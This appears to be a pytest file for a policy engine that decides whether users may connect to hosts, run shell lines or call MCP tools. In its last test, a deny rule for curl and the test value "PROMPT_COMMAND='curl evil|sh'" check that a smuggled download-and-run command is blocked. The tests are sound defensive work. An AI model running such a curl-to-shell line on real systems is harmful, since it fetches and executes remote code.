    result = run_policy(config, "--user", "bob", "--host", "prod1", "--connect", "--json")
    report = json.loads(result.output)
    assert report["effect"] == "allow" and report["rule"] == "restart" and report["login"] is None
    assert report["action"] == {"kind": "connect", "text": "connect"}


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--host", "prod1", "--login", "mcp"], "expected exactly one of --connect, --shell"),
        (["--host", "prod1", "--login", "mcp", "--shell", "--exec", "ls"], "expected exactly one of --connect"),
        (["--host", "prod1", "--shell"], "--login: expected the login on the host"),
        (["--host", "nowhere", "--login", "mcp", "--shell"], "'nowhere' is not in [[hosts]] (known: prod1)"),
        (
            ["--host", "prod1", "--login", "mcp", "--mcp-tool", "t", "--arguments", "[1]"],
            "--arguments: expected a JSON object",
        ),
    ],
)
def test_policy_test_refuses_bad_input_in_one_line(config: Path, args: list[str], message: str) -> None:
    result = run_policy(config, "--user", "alice", *args)
    assert result.exit_code == 1
    assert message in result.output and len(result.output.strip().splitlines()) == 1


def test_a_bad_rule_in_the_file_is_one_line_naming_the_key(config: Path) -> None:
    config.write_text(config.read_text() + '\n[[rules]]\nname = "bad"\neffect = "deny"\nexec = ["re:("]\n')
    result = run_policy(config, "--user", "alice", "--host", "prod1", "--connect")
    assert result.exit_code == 1
    assert "rules[3].exec: expected a valid regular expression" in result.output
    assert len(result.output.strip().splitlines()) == 1


def test_policy_test_report_is_plain_data() -> None:
    report = policy_test_report(Policy(RULES), alice(), McpTool("write_file", {"path": "/etc/x"}))
    assert report["effect"] == "approve" and report["rule"] == "mcp-write-etc"
    assert report["action"] == {"kind": "mcp_tool", "text": 'write_file {"path":"/etc/x"}'}
    json.dumps(report)


def test_assignment_only_lines_need_a_rule_that_covers_them() -> None:
    policy = Policy([
        Rule(name="some", effect="allow", shell=True, exec=("ls*", "cat *")),
        Rule(name="no-curl", effect="deny", exec=("curl *",)),
    ])  # fmt: skip
    subject = Subject("alice", ("dev",), "h", {}, "mcp")
    assert policy.decide(subject, ShellLine("PROMPT_COMMAND='curl evil|sh'")).effect == "deny"
    assert policy.decide(subject, ShellLine("ls -l")).effect == "allow"
    assert policy.decide(subject, ShellLine("# only a comment")).effect == "allow"
